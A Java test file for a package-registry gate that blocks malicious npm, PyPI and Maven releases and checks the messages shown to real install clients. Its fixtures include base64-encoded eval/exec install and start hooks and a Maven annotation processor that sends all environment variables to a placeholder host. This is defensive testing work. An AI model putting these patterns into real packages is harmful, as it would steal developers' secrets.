package cordon.gate.client;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import cordon.base.Digest;
import cordon.base.Ecosystem;
import cordon.gate.Coordinate;
import cordon.gate.GateConfig;
import cordon.gate.GateHouse;
import cordon.gate.GateParts;
import cordon.gate.Inspection;
import cordon.gate.InspectionSettings;
import cordon.gate.Inspector;
import cordon.gate.LocalOverride;
import cordon.gate.OverrideDraft;
import cordon.gate.Upstream;
import cordon.gate.VersionSelector;
import cordon.gate.inspection.StaticInspection;
import cordon.inspect.rules.Rules;
import cordon.testkit.archive.Compiled;
import cordon.testkit.client.ClientCache;
import cordon.testkit.client.ClientRun;
import cordon.testkit.client.MvnClient;
import cordon.testkit.client.NodeClient;
import cordon.testkit.client.NodeClients;
import cordon.testkit.client.PipClient;
import cordon.testkit.client.PythonClients;
import cordon.testkit.client.UvClient;
import cordon.testkit.http.RawClient.Answer;
import cordon.testkit.registry.Archives;
import cordon.testkit.registry.MavenRelease;
import cordon.testkit.registry.MavenRepository;
import cordon.testkit.registry.NpmRegistry;
import cordon.testkit.registry.NpmRelease;
import cordon.testkit.registry.PypiFile;
import cordon.testkit.registry.PypiIndex;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * What a person reads in the terminal when Cordon's own inspector finds a release malicious, with
 * real clients. The payloads print a word or send to a host that is reserved for documentation, and
 * nothing of them is run.
 */
class InspectionThroughClientsTest {
  private static final NpmRelease HARMFUL_NPM =
      NpmRelease.of("left", "1.1.0")
          .script("postinstall", "node setup.js")
          .file("setup.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n");
  private static final PypiFile HARMFUL_WHEEL =
      PypiFile.wheel("demo-pkg", "1.1")
          .file("demo_init.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n");
  private static final String NPM_RULE = "install-runs-hidden-code";
  private static final String PTH_RULE = "start-hook-runs-hidden-code";

  @TempDir Path folder;
  private final List<AutoCloseable> open = new ArrayList<>();

  @AfterEach
  void close() throws Exception {
    for (AutoCloseable each : open.reversed()) {
      each.close();
    }
  }

  private <T extends AutoCloseable> T with(T resource) {
    open.add(resource);
    return resource;
  }

  private Path dir(String name) {
    try {
      return Files.createDirectories(folder.resolve(name));
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private GateHouse house(Ecosystem ecosystem, URI upstream) {
    return house(ecosystem, upstream, InspectionThroughClientsTest::inspecting);
  }

  private GateHouse house(
      Ecosystem ecosystem, URI upstream, java.util.function.UnaryOperator<GateParts> parts) {
    GateConfig config = GateConfig.of(List.of(Upstream.open(ecosystem, upstream)));
    return with(GateHouse.open(dir("gate"), config, parts));
  }

  private static GateParts inspecting(GateParts parts) {
    return parts.with(
        new InspectionSettings(Rules.own(false).build(), InspectionSettings.DEFAULT_BUDGET));
  }

  /** On the terminal lines are wrapped anywhere. */
  private static void refused(ClientRun run, String... texts) {
    assertThat(run.exit()).as("%s", run).isNotZero();
    assertThat(run.output().replaceAll("\\s+", " ")).contains(texts);
  }

  private static void succeeded(ClientRun run) {
    assertThat(run.ok()).as("%s", run).isTrue();
  }

  private static void waive(GateHouse house, Ecosystem ecosystem, String name, String version) {
    house.gate.add(
        new OverrideDraft(
            LocalOverride.Kind.WAIVER,
            ecosystem,
            name,
            new VersionSelector.Exact(version),
            true,
            "read by two of us",
            "test",
            Optional.of(house.clock.instant().plus(Duration.ofDays(1)))),
        "user:test");
  }

  // ------------------------------------------------------------------------------------- npm

  private NpmRegistry npmRegistry() {
    NpmRegistry registry = with(NpmRegistry.start());
    registry.publish("left", "1.0.0").publish(HARMFUL_NPM);
    return registry;
  }

  private NodeClient node(NodeClients kind, GateHouse house, String name) {
    assumeTrue(kind.available().available(), kind.available().detail());
    return kind.open(dir(name), URI.create(house.url() + "/npm/"));
  }

  @ParameterizedTest
  @EnumSource(
      value = NodeClients.class,
      names = {"NPM_10", "NPM_11", "PNPM"})
  void aMaliciousTarballIsExplainedAndThenTheReleaseBeforeItIsTaken(NodeClients kind)
      throws Exception {
    NpmRegistry registry = npmRegistry();
    GateHouse house = house(Ecosystem.NPM, registry.url());
    ClientRun pinned = node(kind, house, "pinned").install("left@1.1.0");
    refused(pinned, "left 1.1.0 is blocked", NPM_RULE, "setup.js:1");
    if (kind != NodeClients.PNPM) {
      refused(
          pinned,
          "installing it runs code that is encoded",
          "Nearest allowed version: 1.0.0",
          house.url() + "/gate/releases/pkg%3Anpm%2Fleft%401.1.0");
    }
    NodeClient ranged = node(kind, house, "ranged");
    succeeded(ranged.install("left@^1.0.0"));
    assertThat(ranged.installedVersion("left")).contains("1.0.0");
    refusedOnEveryNpmRoute(house);
    assertThat(house.facts("gate.pull"))
        .extracting(f -> f.subject())
        .containsOnly("pkg:npm/left@1.0.0");
    assertThat(house.facts("gate.refused"))
        .anySatisfy(
            f -> assertThat(f.body()).contains("\"code\":\"inspection\"", NPM_RULE, "setup.js:1"));
    assertThat(house.facts("gate.inspected"))
        .anySatisfy(f -> assertThat(f.body()).contains("\"result\":\"malicious\""));
  }

  private static void refusedOnEveryNpmRoute(GateHouse house) throws IOException {
    String tarball = "/npm/left/-/left-1.1.0.tgz";
    assertThat(house.get("/npm/left").text()).doesNotContain("left-1.1.0.tgz");
    assertThat(house.get("/npm/left", "Accept: application/vnd.npm.install-v1+json").text())
        .doesNotContain("left-1.1.0.tgz");
    assertThat(house.get("/npm/left/1.1.0").status()).isEqualTo(403);
    assertThat(house.get(tarball).status()).isEqualTo(403);
    assertThat(house.head(tarball).status()).isEqualTo(403);
    assertThat(house.get(tarball, "Range: bytes=0-9").status()).isEqualTo(403);
  }

  /** Metadata come first, and until the file is asked for the verdict is there. */
  @Test
  void aRangeNeverMeetsWhatWasInspectedAhead() throws Exception {
    GateHouse house = house(Ecosystem.NPM, npmRegistry().url());
    assertThat(house.get("/npm/left").text()).contains("left-1.1.0.tgz");
    await()
        .untilAsserted(
            () -> assertThat(house.get("/npm/left").text()).doesNotContain("left-1.1.0.tgz"));
    assertThat(house.facts("gate.refused")).isEmpty();
    NodeClient npm = node(NodeClients.NPM_11, house, "ranged");
    succeeded(npm.install("left"));
    assertThat(npm.installedVersion("left")).contains("1.0.0");
  }

  @Test
  void aWaiverLetsItThroughAndNpmSaysSo() throws Exception {
    GateHouse house = house(Ecosystem.NPM, npmRegistry().url());
    refused(node(NodeClients.NPM_11, house, "before").install("left@1.1.0"), NPM_RULE);
    waive(house, Ecosystem.NPM, "left", "1.1.0");
    ClientRun waived = node(NodeClients.NPM_11, house, "after").install("left@1.1.0");
    succeeded(waived);
    assertThat(waived.output().replaceAll("\\s+", " "))
        .contains("left 1.1.0 passes only because it is waived by test: read by two of us")
        .contains("malicious by rule " + NPM_RULE);
    assertThat(house.facts("gate.pull").getLast().body())
        .contains("\"code\":\"waived\"", "malicious by rule " + NPM_RULE);
  }

  /** Waits until a test lets it go on, then inspects as always. */
  private record Slow(Inspector real, CountDownLatch mayEnd) implements Inspector {
    @Override
    public String ruleSet() {
      return real.ruleSet();
    }

    @Override
    public Duration budget() {
      return mayEnd.getCount() > 0 ? Duration.ZERO : real.budget();
    }

    @Override
    public Inspection inspect(Coordinate coordinate, Digest sha256, Path file) throws IOException {
      try {
        mayEnd.await();
      } catch (InterruptedException e) {
        throw new IOException(e);
      }
      return real.inspect(coordinate, sha256, file);
    }
  }

  @Test
  void whoComesBeforeTheVerdictIsToldToComeBackAndIsServedAfterIt() throws Exception {
    CountDownLatch mayEnd = new CountDownLatch(1);
    InspectionSettings settings =
        new InspectionSettings(Rules.own(false).build(), InspectionSettings.DEFAULT_BUDGET);
    GateHouse house =
        house(
            Ecosystem.NPM,
            npmRegistry().url(),
            parts ->
                parts.with(
                    new Slow(
                        new StaticInspection(
                            settings, parts.database(), parts.blobs(), parts.clock()),
                        mayEnd)));
    ClientRun early = node(NodeClients.NPM_11, house, "early").install("left@1.0.0");
    refused(early, "503", "left-1.0.0.tgz is not inspected yet", "it goes on", "ask again in 10");
    Answer answer = house.get("/npm/left/-/left-1.0.0.tgz");
    assertThat(answer.headers().first("Retry-After")).contains("10");
    assertThat(house.facts("gate.pull")).isEmpty();
    mayEnd.countDown();
    succeeded(node(NodeClients.NPM_11, house, "later").install("left@1.0.0"));
  }

  @Test
  void whatCannotBeReadToItsEndIsHeldWithTheReason() throws Exception {
    NpmRegistry registry = npmRegistry();
    byte[] nest = {};
    for (int i = 0; i < 20; i++) {
      nest = Archives.zip(Map.of("nest.zip", nest));
    }
    registry.publish(NpmRelease.of("left", "1.0.1").file("nest.zip", nest));
    GateHouse house = house(Ecosystem.NPM, registry.url());
    ClientRun held = node(NodeClients.NPM_11, house, "held").install("left@1.0.1");
    refused(
        held,
        "left 1.0.1 is held until reviewed: not fully inspected: ",
        "nest.zip",
        "allowed: 1.0.0");
  }

  // ---------------------------------------------------------------------------------- Python

  private PypiIndex pythonIndex() {
    PypiIndex index = with(PypiIndex.start());
    index.publish("demo-pkg", "1.0").publish(HARMFUL_WHEEL);
    return index;
  }

  private static Path need(ClientCache.Client client) {
    assumeTrue(client.availability().available(), client.availability().detail());
    return client.folder();
  }

  @Test
  void aMaliciousWheelIsExplainedToPipAndThenTheReleaseBeforeItIsTaken() throws Exception {
    assumeTrue(PipClient.available().available(), PipClient.available().detail());
    GateHouse house = house(Ecosystem.PYPI, pythonIndex().simple());
    URI simple = URI.create(house.url() + "/pypi/simple/");
    refused(
        new PipClient(dir("pinned"), simple).install("demo-pkg==1.1"),
        "demo-pkg 1.1 is blocked (" + PTH_RULE + " at demo_init.pth:1), allowed: 1.0");
    PipClient ranged = new PipClient(dir("ranged"), simple);
    ClientRun run = ranged.install("demo-pkg>=1");
    succeeded(run);
    assertThat(run.output()).contains("demo-pkg-1.0");
    String file = "/pypi/files/demo-pkg/" + HARMFUL_WHEEL.fileName();
    assertThat(house.facts("gate.refused"))
        .anySatisfy(f -> assertThat(f.subject()).isEqualTo("pkg:pypi/demo-pkg@1.1"));
    assertThat(house.get(file).status()).isNotEqualTo(200);
    assertThat(house.facts("gate.pull"))
        .extracting(f -> f.body())
        .noneMatch(body -> body.contains("\"file\":\"" + HARMFUL_WHEEL.fileName() + "\""));
  }

  @Test
  void uvShowsTheWholeReason() throws Exception {
    Path installation = need(PythonClients.uv());
    GateHouse house = house(Ecosystem.PYPI, pythonIndex().simple());
    URI simple = URI.create(house.url() + "/pypi/simple/");
    refused(
        new UvClient(dir("pinned"), simple, installation).install("demo-pkg==1.1"),
        "demo-pkg 1.1 is blocked",
        PTH_RULE,
        "demo_init.pth:1");
    UvClient ranged = new UvClient(dir("ranged"), simple, installation);
    succeeded(ranged.install("demo-pkg>=1"));
    assertThat(ranged.installed("demo_pkg")).isTrue();
  }

  // ----------------------------------------------------------------------------------- Maven

  private static final String PROCESSOR =
      "package a; import java.net.*; public class Lead { public void init(Object o) throws Exception {"
          + " URLConnection c = new URL(\"http://192.0.2.7/x\").openConnection(); c.setDoOutput(true);"
          + " c.getOutputStream().write(System.getenv().toString().getBytes()); } }";

  private static MavenRelease harmfulJar() {
    MavenRelease release =
        MavenRelease.of("com.example", "demo", "1.1")
            .entry(
                "META-INF/services/javax.annotation.processing.Processor", "a.Lead\n".getBytes());
    return Compiled.classes("a.Lead", PROCESSOR).entrySet().stream()
        .reduce(release, (r, e) -> r.entry(e.getKey(), e.getValue()), (a, b) -> b);
  }

  @Test
  void aMaliciousJarIsExplainedToMaven() throws Exception {
    assumeTrue(MvnClient.available().available(), MvnClient.available().detail());
    MavenRepository repository = with(MavenRepository.start());
    repository.publish("com.example", "demo", "1.0");
    repository.publish(harmfulJar());
    GateHouse house = house(Ecosystem.MAVEN, repository.url());
    MvnClient mvn = new MvnClient(dir("mvn"), URI.create(house.url() + "/maven/"));
    refused(
        mvn.resolve("com.example:demo:1.1"),
        "com.example:demo 1.1 is blocked (install-takes-secrets",
        "allowed: 1.0");
    assertThat(mvn.hasJar("com.example:demo:1.1")).isFalse();
    succeeded(mvn.resolve("com.example:demo:1.0"));
    waive(house, Ecosystem.MAVEN, "com.example:demo", "1.1");
    mvn.forget("com/example/demo");
    succeeded(mvn.resolve("com.example:demo:1.1"));
  }
}
